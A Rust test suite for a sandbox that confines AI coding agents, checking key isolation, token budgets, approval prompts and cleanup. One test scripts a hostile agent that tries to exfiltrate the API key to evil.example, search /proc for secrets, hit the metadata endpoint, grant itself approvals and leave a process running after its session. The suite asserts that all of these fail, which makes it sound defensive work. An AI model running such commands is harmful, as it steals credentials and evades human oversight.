//! Agents in worlds, from outside: what they get, what they do not, what they cost, and what is told in the end.
//! The client is the scripted one, the model a server on this machine's loopback.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test may stop")]

use std::fs;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::common::{Sandbox, skip};

const KEY: &str = "sk-the-real-one-7c2f9e41";

/// A model that answers everything with the same text and usage, and remembers what it was asked.
struct Model {
    port: u16,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Model {
    fn start() -> Model {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let asked = Arc::new(Mutex::new(Vec::new()));
        let seen = Arc::clone(&asked);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let seen = Arc::clone(&seen);
                std::thread::spawn(move || while answer(&stream, &seen).is_some() {});
            }
        });
        Model { port, asked }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

fn answer(mut stream: &TcpStream, seen: &Mutex<Vec<String>>) -> Option<()> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut byte = [0];
        stream.read_exact(&mut byte).ok()?;
        head.push(byte[0]);
    }
    let head = String::from_utf8(head).ok()?;
    let length = head
        .lines()
        .find_map(|line| line.strip_prefix("content-length: ")?.parse().ok());
    let mut body = vec![0; length.unwrap_or(0)];
    stream.read_exact(&mut body).ok()?;
    seen.lock()
        .unwrap()
        .push(head + &String::from_utf8_lossy(&body));
    let body = r#"{"content":[{"type":"text","text":"forty-two"}],"usage":{"input_tokens":1234,"cache_read_input_tokens":100,"output_tokens":56}}"#;
    let length = body.len();
    write!(stream, "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {length}\r\n\r\n{body}").ok()
}

/// A policy under which an agent may start anything: what holds is its world.
const LOOSE: &str = "\
mode: enforce
fs: { write: ['$PROJECT/**'], outside: allow }
net: { allowed: ['localhost:*', '127.0.0.1:*', '[::1]:*'], unlisted: allow }
";

struct Rig {
    sandbox: Sandbox,
    model: Model,
}

impl Rig {
    fn new(policy: &str) -> Rig {
        Rig {
            sandbox: Sandbox::with_policy(policy),
            model: Model::start(),
        }
    }

    fn user_home(&self) -> PathBuf {
        self.sandbox.home().parent().unwrap().to_owned()
    }

    fn agent(&self, words: &[&str]) -> Command {
        let mut command = self.sandbox.substrate();
        command
            .args(["agent", "run", "--policy", "test"])
            .args(words)
            .env("MOCK_API_KEY", KEY)
            .env(
                "MOCK_BASE_URL",
                format!("http://127.0.0.1:{}", self.model.port),
            )
            .env("OTHER_API_KEY", KEY)
            .env("MY_SERVICE_TOKEN", KEY);
        command
    }

    /// Has the scripted client carry out these lines.
    fn script(&self, flags: &[&str], lines: &[&str]) -> Output {
        fs::write(self.sandbox.project().join("script"), lines.join("\n")).unwrap();
        let words = [flags, &["mock", "script"]].concat();
        self.agent(&words).output().unwrap()
    }

    fn goal(&self, flags: &[&str]) -> Value {
        let words = [&["-p", "the question", "--json"], flags, &["mock"]].concat();
        let output = self.agent(&words).output().unwrap();
        let text = String::from_utf8_lossy(&output.stderr).into_owned();
        serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error} {text}"))
    }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn an_agent_works_and_one_screen_tells_what_came_of_it() {
    let rig = Rig::new(LOOSE);
    let output = rig.script(
        &["--name", "worker"],
        &[
            "ask one",
            "ask two",
            "run echo new > made",
            "run printf 'all:' > Makefile",
            "run env",
        ],
    );
    let (stdout, screen) = (text(&output.stdout), text(&output.stderr));
    assert_eq!(output.status.code(), Some(0), "{screen}");
    assert_eq!(stdout.matches("forty-two").count(), 2, "{stdout}");
    assert!(
        stdout.contains("MOCK_BASE_URL=http://127.0.0.1:7437\n"),
        "{stdout}"
    );
    assert!(!stdout.contains(KEY), "{stdout}");
    assert_eq!(
        fs::read_to_string(rig.sandbox.project().join("made")).unwrap(),
        "new\n"
    );
    for line in [
        "substrate: worker ended after",
        "changed     2 new, 0 modified, 0 deleted",
        "Makefile: a build runs it",
        "key         MOCK_API_KEY stayed outside",
        "mock-1: 2668 read (200 from the cache), 112 written",
    ] {
        assert!(screen.contains(line), "{line:?} is missing in\n{screen}");
    }
    for asked in rig.model.asked() {
        assert!(asked.contains(&format!("x-api-key: {KEY}\r\n")), "{asked}");
        assert!(!asked.contains("substrate-puts"), "{asked}");
    }
    let answered = rig.sandbox.events("agent_event");
    let actions: Vec<&str> = answered
        .iter()
        .filter_map(|event| event["action"].as_str())
        .collect();
    assert_eq!(actions, ["started", "answered", "answered", "ended"]);
    assert_eq!(answered[1]["tokens"]["input"], 1234);
    assert_eq!(answered[3]["tokens"]["output"], 112);
    for event in rig.sandbox.trace() {
        assert_eq!(event["agent_id"], "worker", "{event}");
        assert!(!event.to_string().contains(KEY), "{event}");
        assert!(
            !event.to_string().contains("forty-two"),
            "nothing of answers is kept: {event}"
        );
    }
}

#[test]
fn a_headless_run_ends_with_a_word_and_numbers() {
    let rig = Rig::new(LOOSE);
    let end = rig.goal(&[]);
    assert_eq!(end["outcome"], "completed");
    assert_eq!(end["output"], "forty-two\n");
    assert_eq!(end["usage"]["models"]["mock-1"]["input"], 1234);
    assert_eq!(end["usage"]["total"], 1234 + 100 + 56);
    assert_eq!(end["usage"]["charged"], 0);
    assert_eq!(end["key"], "outside");
    assert_eq!(end["spans"].as_array().unwrap().len(), 1);
    assert!(rig.model.asked()[0].contains("the question"));
}

#[test]
fn a_budget_ends_it_before_the_next_request_leaves() {
    let rig = Rig::new(LOOSE);
    let output = rig.script(&["--budget", "1450"], &["ask one", "ask two", "ask three"]);
    let (stdout, screen) = (text(&output.stdout), text(&output.stderr));
    assert_eq!(stdout.matches("forty-two").count(), 1, "{stdout}");
    assert_eq!(
        stdout
            .matches("token budget of this agent is used up")
            .count(),
        2,
        "{stdout}"
    );
    assert_eq!(rig.model.asked().len(), 1);
    assert!(screen.contains("1390 of 1450 tokens; used up"), "{screen}");
    let limit = &rig.sandbox.events("rate_limit")[0];
    assert_eq!(
        (&limit["limit"], &limit["used"]),
        (&"guards.tokens".into(), &1390.into())
    );
    let end = rig.goal(&["--budget", "50"]);
    assert_eq!(end["outcome"], "budget");
    assert_eq!(end["usage"]["requests"], 0);
}

#[test]
fn the_policy_limits_tokens_and_a_person_only_narrows_that() {
    let rig = Rig::new(&format!("{LOOSE}guards: {{ tokens: 60 }}\n"));
    let end = rig.goal(&["--budget", "1M"]);
    assert_eq!(
        (&end["outcome"], &end["usage"]["limit"]),
        (&"budget".into(), &60.into())
    );
    assert!(rig.model.asked().is_empty());
}

#[test]
fn what_agents_cost_is_told_from_the_trace() {
    let rig = Rig::new(LOOSE);
    rig.script(&["--name", "first"], &["ask one", "ask two"]);
    rig.script(&["--name", "second"], &["ask three"]);
    let output = rig.sandbox.run(["agent", "usage", "--json"]);
    let rows: Value = serde_json::from_slice(&output.stdout).unwrap();
    let of = |at: usize| {
        (
            &rows[at]["agent"],
            &rows[at]["answers"],
            &rows[at]["usage"]["input"],
        )
    };
    assert_eq!(of(0), (&"first".into(), &2.into(), &2468.into()));
    assert_eq!(of(1), (&"second".into(), &1.into(), &1234.into()));
    let output = rig.sandbox.run(["agent", "usage", "second"]);
    let table = text(&output.stdout);
    assert!(
        table.contains("second") && !table.contains("first"),
        "{table}"
    );
    for word in ["attach", "suspend", "send"] {
        let output = rig.sandbox.run(["agent", word, "first"]);
        assert!(
            text(&output.stderr).contains("need the service"),
            "{output:?}"
        );
    }
}

#[test]
fn turns_and_time_end_it_too() {
    let rig = Rig::new(LOOSE);
    let end = rig.goal(&["--max-turns", "1"]);
    assert_eq!(end["outcome"], "completed");
    fs::write(rig.sandbox.project().join("script"), "ask one\nask two\n").unwrap();
    let words = ["-p", "x", "--json", "--max-turns", "1", "mock", "script"];
    let end: Value = serde_json::from_slice(&rig.agent(&words).output().unwrap().stdout).unwrap();
    assert_eq!(end["outcome"], "max_turns", "{end}");
    fs::write(rig.sandbox.project().join("script"), "run sleep 60\n").unwrap();
    let words = ["-p", "x", "--json", "--timeout", "1s", "mock", "script"];
    let started = Instant::now();
    let end: Value = serde_json::from_slice(&rig.agent(&words).output().unwrap().stdout).unwrap();
    assert_eq!(end["outcome"], "cancelled", "{end}");
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[test]
fn what_would_need_a_person_is_told_apart() {
    let rig = Rig::new(&format!("{LOOSE}commands: {{ ask: ['touch *'] }}\n"));
    fs::write(rig.sandbox.project().join("script"), "run touch asked\n").unwrap();
    let output = rig
        .agent(&["-p", "x", "--json", "mock", "script"])
        .output()
        .unwrap();
    let end: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(end["outcome"], "await_user", "{end}");
    assert_eq!(end["refused"][0]["why"], "commands.ask `touch *`");
    assert!(!rig.sandbox.project().join("asked").exists());
}

#[test]
fn an_isolated_agent_leaves_a_result_and_its_own_state_is_real() {
    let rig = Rig::new(LOOSE);
    let output = rig.script(
        &["--isolated"],
        &[
            "run echo new > made",
            "run echo true > .envrc",
            "run echo state > ~/.substrate-mock/state",
            "run cat ~/.substrate-mock/state",
        ],
    );
    let screen = text(&output.stderr);
    assert!(text(&output.stdout).contains("state\n"), "{screen}");
    assert!(!rig.sandbox.project().join("made").exists(), "{screen}");
    let state = rig.user_home().join(".substrate-mock/state");
    assert_eq!(fs::read_to_string(state).unwrap(), "state\n", "{screen}");
    assert!(
        screen.contains("2 new, 0 modified, 0 deleted, held back"),
        "{screen}"
    );
    assert!(screen.contains(".envrc: direnv runs it"), "{screen}");
    let done = rig.sandbox.events("command_complete").pop().unwrap();
    assert!(
        !done["fs_diff"].to_string().contains("substrate-mock"),
        "{done}"
    );
    let id = done["span_id"].as_str().unwrap().to_owned();
    let diff = rig.sandbox.run(["world", "diff", &id]);
    assert!(text(&diff.stdout).contains("made"), "{diff:?}");
    assert!(!text(&diff.stdout).contains("substrate-mock"), "{diff:?}");
    assert!(rig.sandbox.run(["world", "apply", &id]).status.success());
    assert_eq!(
        fs::read_to_string(rig.sandbox.project().join("made")).unwrap(),
        "new\n"
    );
}

#[test]
fn whatever_cannot_be_done_is_refused_with_a_sentence() {
    let rig = Rig::new(LOOSE);
    for (words, status, says) in [
        (
            &["nobody"][..],
            125,
            "no agent is called `nobody`; known are aider, claude",
        ),
        (&["-d", "mock"], 2, "needs the service"),
        (&["--budget", "lots", "mock"], 2, "tokens are expected"),
        (&["--timeout", "5", "mock"], 2, "a time is expected"),
        (&["--name", "human", "mock"], 2, "not `human`"),
        (&["--json", "mock"], 2, "add -p GOAL"),
        (
            &["-p", "x", "--", "true"],
            2,
            "-p needs an agent that is described",
        ),
        (
            &["--budget", "5k", "--", "true"],
            125,
            "tokens are counted at the model gate",
        ),
        (
            &["gemini"],
            125,
            "Gemini CLI has no key: set GEMINI_API_KEY or GOOGLE_API_KEY",
        ),
        (
            &["cursor-agent"],
            125,
            "Cursor CLI has no key: set CURSOR_API_KEY",
        ),
    ] {
        let output = rig.agent(words).output().unwrap();
        let said = text(&output.stderr);
        assert!(said.contains(says), "{words:?} {said}");
        assert_eq!(output.status.code(), Some(status), "{words:?} {said}");
    }
    let mut clear = rig.agent(&["mock", "script"]);
    let output = clear
        .env("MOCK_BASE_URL", "http://model.example")
        .output()
        .unwrap();
    assert!(text(&output.stderr).contains("without TLS"), "{output:?}");
    assert!(rig.model.asked().is_empty());
}

#[test]
fn any_command_can_be_an_agent() {
    let rig = Rig::new(LOOSE);
    let output = rig
        .agent(&["--", "sh", "-c", "env; exit 3"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(3), "{output:?}");
    assert!(text(&output.stdout).contains("SUBSTRATE_AGENT_ID=sh\n"));
    assert!(!text(&output.stdout).contains(KEY));
    let output = rig
        .agent(&["--setenv", "GH_TOKEN=given", "--", "env"])
        .output()
        .unwrap();
    assert!(
        text(&output.stdout).contains("GH_TOKEN=given\n"),
        "{output:?}"
    );
}

#[test]
fn the_preset_is_that_of_agents_unless_another_is_named() {
    let rig = Rig::new(LOOSE);
    let mut command = rig.sandbox.substrate();
    let output = command
        .args(["agent", "run", "--", "sudo", "id"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(126), "{output:?}");
    assert!(
        text(&output.stderr).contains("policy 'agent'"),
        "{output:?}"
    );
}

#[test]
fn providers_are_listed_and_wrong_descriptors_are_shown() {
    let sandbox = Sandbox::new();
    let output = sandbox.run(["agent", "providers"]);
    let table = text(&output.stdout);
    assert!(
        table.contains("claude") && table.contains("npm: @anthropic-ai/claude-code"),
        "{table}"
    );
    let agents = sandbox.home().join("agents");
    fs::create_dir(&agents).unwrap();
    let own = "name: own\ncommand: [sh, -c, 'echo $0 $*']\nauth: none\narguments: { headless: ['{goal}'] }\n";
    fs::write(agents.join("own.yaml"), own).unwrap();
    let output = sandbox.run(["agent", "providers", "--json"]);
    let all: Value = serde_json::from_slice(&output.stdout).unwrap();
    let own = all
        .as_array()
        .unwrap()
        .iter()
        .find(|row| row["name"] == "own")
        .unwrap();
    assert_eq!(
        (&own["auth"], &own["key"]),
        (&"none".into(), &"none".into())
    );
    let output = sandbox.run(["agent", "run", "-p", "a goal", "own"]);
    assert_eq!(text(&output.stdout), "a goal\n", "{output:?}");
    fs::write(
        agents.join("bad.yaml"),
        "name: bad\ncomand: [x]\nauth: none\n",
    )
    .unwrap();
    let output = sandbox.run(["agent", "providers"]);
    assert_eq!(output.status.code(), Some(1));
    let said = text(&output.stdout);
    assert!(
        said.contains("bad.yaml:2:1: `comand` is not a known key"),
        "{said}"
    );
    assert!(said.contains("did you mean `command`?"), "{said}");
    let output = sandbox.run(["agent", "run", "bad"]);
    assert!(text(&output.stderr).contains("bad.yaml:2:1"), "{output:?}");
}

#[test]
fn doctor_tells_of_agents_that_are_here() {
    let rig = Rig::new(LOOSE);
    let bin = rig.sandbox.project().join("bin");
    fs::create_dir(&bin).unwrap();
    crate::common::script(&bin.join("claude"), "#!/bin/sh\necho '9.9.9 (a script)'\n");
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let mut doctor = rig.sandbox.substrate();
    let output = doctor
        .arg("doctor")
        .env("PATH", path)
        .env("ANTHROPIC_API_KEY", KEY)
        .output()
        .unwrap();
    let said = text(&output.stdout);
    let line = said
        .lines()
        .find(|line| line.contains("claude:"))
        .unwrap_or_else(|| panic!("{said}"));
    assert!(
        line.starts_with("ok") && line.contains("9.9.9 (a script)"),
        "{line}"
    );
    assert!(
        line.contains("its key stays outside (ANTHROPIC_API_KEY)"),
        "{line}"
    );
    assert!(!said.contains(KEY));
}

/// Whatever an agent tries that ignores every refusal.
#[test]
fn a_hostile_agent_gets_nothing_out_and_changes_nothing_outside() {
    let rig = Rig::new(LOOSE);
    let victim = rig.user_home().join("victim");
    fs::write(&victim, "untouched").unwrap();
    let port = rig.model.port;
    let own = rig.sandbox.home().join("agents");
    fs::create_dir(&own).unwrap();
    let post = |path: &str, more: &str, body: &str| {
        format!(
            "run curl -sS -m 5 -o - -w '<%{{http_code}}>' -X POST {more} -d '{body}' http://127.0.0.1:7437{path}"
        )
    };
    let fetch = r#"{"max_tokens":5,"messages":[{"content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?leak"}}]}]}"#;
    let lines = [
        "run env; cat /proc/*/environ | tr '\\0' '\\n'; cat /proc/*/cmdline | tr '\\0' ' '"
            .to_owned(),
        format!(
            "run grep -rs sk-the-real / --include='*' -l --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=lib --exclude-dir=work --exclude-dir=root | head; echo {}",
            "searched"
        ),
        "run for p in /proc/[0-9]*; do head -c 1 $p/mem 2>&1; ls $p/fd; done".to_owned(),
        "run getent hosts sk-leak.evil.example; curl -sS -m 3 https://evil.example/".to_owned(),
        format!("run curl -sS -m 3 http://127.0.0.1:{port}/v1/messages"),
        "run curl -sS -m 3 http://10.0.0.1/ ; curl -sS -m 3 http://169.254.169.254/".to_owned(),
        post(
            "/v1/messages",
            "-H 'x-api-key: attackers-own' -H 'authorization: Bearer attackers-own'",
            r#"{"model":"own","max_tokens":5,"messages":[]}"#,
        ),
        post(
            "/v1/messages?key=attackers-own",
            "",
            r#"{"model":"own","max_tokens":5,"messages":[]}"#,
        ),
        post("/v1/files", "-H 'x-api-key: attackers-own'", "the secrets"),
        post("/v1/messages", "", fetch),
        post(
            "/v1/messages",
            "",
            r#"{"max_tokens":5,"mcp_servers":[{"url":"https://evil.example/sse"}]}"#,
        ),
        "run curl -sS -m 3 -x http://127.0.0.1:7437 http://evil.example/ -w '<%{http_code}>'"
            .to_owned(),
        "run curl -sS -m 3 -p -x http://127.0.0.1:7437 https://evil.example/".to_owned(),
        format!(
            "run echo gone > {}; rm -f {}",
            victim.display(),
            victim.display()
        ),
        format!(
            "run echo 'name: mock' > {}/mock.yaml; ls {}",
            own.display(),
            rig.sandbox.home().display()
        ),
        "run substrate approvals grant --policy test -- 'rm *'".to_owned(),
        "run setsid sh -c 'sleep 300; echo outlived' >/dev/null 2>&1 </dev/null & sleep 0.2"
            .to_owned(),
        "run substrate agent run -- sh -c 'echo nested'".to_owned(),
    ];
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    let output = rig.script(&[], &lines);
    let (stdout, screen) = (text(&output.stdout), text(&output.stderr));
    let all = format!("{stdout}\n{screen}");
    assert!(!all.contains(KEY), "{all}");
    assert!(all.contains("searched"), "{all}");
    assert_eq!(fs::read_to_string(&victim).unwrap(), "untouched");
    assert!(!own.join("mock.yaml").exists());
    assert!(!all.contains("nested\n"), "{all}");
    let asked = rig.model.asked();
    assert_eq!(
        asked.len(),
        2,
        "only what was allowed left: {asked:?}\n{all}"
    );
    for asked in &asked {
        assert!(!asked.contains("attackers-own"), "{asked}");
        assert!(asked.contains(&format!("x-api-key: {KEY}\r\n")), "{asked}");
    }
    assert_eq!(stdout.matches("<200>").count(), 2, "{stdout}");
    assert_eq!(
        stdout.matches("<400>").count(),
        3,
        "fetch, MCP and a proxied request: {stdout}"
    );
    assert!(stdout.contains("<403>"), "{stdout}");
    assert!(screen.contains("evil.example"), "{screen}");
    let end = rig.sandbox.events("agent_event").pop().unwrap();
    assert_eq!(end["tokens"]["input"], 2 * 1234, "counted to the digit");
    assert_eq!(end["tokens"]["output"], 2 * 56);
    assert_eq!(sleeping("sleep 300"), 0, "nothing outlives its world");
}

/// How many processes have this command line.
fn sleeping(line: &str) -> usize {
    let processes = fs::read_dir("/proc").unwrap().flatten();
    let same = processes.filter(|entry| {
        let words = fs::read(entry.path().join("cmdline")).unwrap_or_default();
        text(&words).replace('\0', " ").trim() == line
    });
    same.count()
}

/// Whether the key is in memory that a process can read, as the host sees it.
fn has_in_memory(pid: &str, needle: &[u8]) -> bool {
    use std::os::unix::fs::FileExt;
    let Ok(maps) = fs::read_to_string(format!("/proc/{pid}/maps")) else {
        return false;
    };
    let Ok(memory) = fs::File::open(format!("/proc/{pid}/mem")) else {
        return false;
    };
    maps.lines().any(|line| {
        let (range, rest) = line.split_once(' ').unwrap();
        let (from, to) = range.split_once('-').unwrap();
        let from = u64::from_str_radix(from, 16).unwrap();
        let to = u64::from_str_radix(to, 16).unwrap();
        if !rest.starts_with('r') || to - from > 512 << 20 || rest.contains("[vvar") {
            return false;
        }
        let mut content = vec![0; (to - from) as usize];
        let read = memory.read_at(&mut content, from).unwrap_or(0);
        content[..read]
            .windows(needle.len())
            .any(|part| part == needle)
    })
}

/// The processes below this one.
fn below(pid: u32) -> Vec<String> {
    let children =
        fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
    let mut all = Vec::new();
    for child in children.split_whitespace() {
        all.push(child.to_owned());
        all.extend(below(child.parse().unwrap()));
    }
    all
}

#[test]
fn the_key_is_in_no_memory_of_the_world() {
    let rig = Rig::new(LOOSE);
    let marker = rig.sandbox.project().join("ready");
    let lines = format!("ask one\nrun touch {}; sleep 30\n", marker.display());
    fs::write(rig.sandbox.project().join("script"), lines).unwrap();
    let mut agent = rig.agent(&["mock", "script"]).spawn().unwrap();
    let end = Instant::now() + Duration::from_secs(20);
    while !marker.exists() && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(marker.exists());
    let all = below(agent.id());
    let found: Vec<&String> = all
        .iter()
        .filter(|pid| has_in_memory(pid, KEY.as_bytes()))
        .collect();
    let readable = all
        .iter()
        .filter(|pid| has_in_memory(pid, b"\x7fELF"))
        .count();
    // The gate has used it, so that it is in the memory of the process outside, where it belongs.
    let outside = has_in_memory(&agent.id().to_string(), KEY.as_bytes());
    agent.kill().unwrap();
    let _ = agent.wait();
    if readable == 0 {
        return skip(
            "the_key_is_in_no_memory_of_the_world",
            "no memory can be read here",
        );
    }
    assert!(readable >= 2, "{all:?}");
    assert!(outside);
    assert_eq!(found, Vec::<&String>::new());
}

#[test]
fn settings_that_run_something_later_are_held_or_told() {
    let rig = Rig::new(LOOSE);
    let agents = rig.sandbox.home().join("agents");
    fs::create_dir(&agents).unwrap();
    let own = "name: own\ncommand: [sh]\nauth: none\nhome: [{ path: .own, access: write }]\n\
               settings: { hooks: [.own/hooks.json, .own/new.json], mcp: [.own/state.json] }\n";
    fs::write(agents.join("own.yaml"), own).unwrap();
    let state = rig.user_home().join(".own");
    fs::create_dir(&state).unwrap();
    fs::write(state.join("hooks.json"), "{}").unwrap();
    fs::write(state.join("state.json"), "{}").unwrap();
    let does = "echo '{\"hooks\":{\"x\":1}}' > ~/.own/hooks.json; echo '{\"hooks\":{\"x\":1}}' > ~/.own/new.json; \
                echo '{\"seen\":1,\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' > ~/.own/state.json";
    let output = rig.agent(&["own", "-c", does]).output().unwrap();
    let screen = text(&output.stderr);
    assert_eq!(
        fs::read_to_string(state.join("hooks.json")).unwrap(),
        "{}",
        "{screen}"
    );
    for file in [".own/new.json", ".own/state.json"] {
        let line = screen
            .lines()
            .find(|line| line.contains(file))
            .unwrap_or_else(|| panic!("{screen}"));
        assert!(
            line.ends_with("the client runs what its settings name"),
            "{screen}"
        );
    }
}

#[test]
fn a_log_in_inside_is_said_and_recorded_and_nothing_else_goes_in() {
    let rig = Rig::new(LOOSE);
    let agents = rig.sandbox.home().join("agents");
    fs::create_dir(&agents).unwrap();
    let own = "name: own\ncommand: [env]\nauth: inside\nkeys: [OWN_TOKEN]\nhosts: [own.example]\n";
    fs::write(agents.join("own.yaml"), own).unwrap();
    let mut command = rig.agent(&["own"]);
    let output = command
        .env("OWN_TOKEN", "the-clients-own")
        .output()
        .unwrap();
    let (stdout, said) = (text(&output.stdout), text(&output.stderr));
    assert!(stdout.contains("OWN_TOKEN=the-clients-own\n"), "{stdout}");
    assert!(
        !stdout.contains(KEY) && !stdout.contains("SUBSTRATE_AGENT_VAULT"),
        "{stdout}"
    );
    assert!(said.contains("OWN_TOKEN is inside the world"), "{said}");
    let done = rig.sandbox.events("command_complete").pop().unwrap();
    let degraded = done["enforced"]["degraded"].to_string();
    assert!(degraded.contains("log-in is inside its world"), "{done}");
    let output = rig
        .agent(&["--budget", "5k", "own"])
        .env("OWN_TOKEN", "x")
        .output()
        .unwrap();
    assert!(
        text(&output.stderr).contains("counted at the model gate"),
        "{output:?}"
    );
}

#[test]
fn worlds_of_two_agents_have_gates_of_their_own() {
    let rig = Rig::new(LOOSE);
    let other = Model::start();
    fs::write(
        rig.sandbox.project().join("script"),
        "ask one\nrun sleep 1\nask two\n",
    )
    .unwrap();
    let mut first = rig
        .agent(&["--name", "first", "mock", "script"])
        .spawn()
        .unwrap();
    let mut second = rig.agent(&["--name", "second", "mock", "script"]);
    second
        .env("MOCK_BASE_URL", format!("http://127.0.0.1:{}", other.port))
        .env("MOCK_API_KEY", "another-key");
    let output = second.output().unwrap();
    assert!(first.wait().unwrap().success());
    assert!(output.status.success(), "{output:?}");
    for (model, key, count) in [(&rig.model, KEY, 2), (&other, "another-key", 2)] {
        let asked = model.asked();
        assert_eq!(asked.len(), count);
        assert!(
            asked
                .iter()
                .all(|asked| asked.contains(&format!("x-api-key: {key}\r\n")))
        );
    }
}

#[test]
fn a_policy_that_only_observes_holds_an_agent_in_a_world_too() {
    let rig = Rig::new("mode: observe\nfs: { write: ['$PROJECT/**'] }\n");
    let output = rig.script(
        &[],
        &["ask one", "run echo x > made", "run cat /proc/self/status"],
    );
    assert!(text(&output.stdout).contains("forty-two"), "{output:?}");
    let done = rig.sandbox.events("command_complete").pop().unwrap();
    assert_eq!(done["place"], "session", "{done}");
    assert!(Path::new(&rig.sandbox.project().join("made")).exists());
}
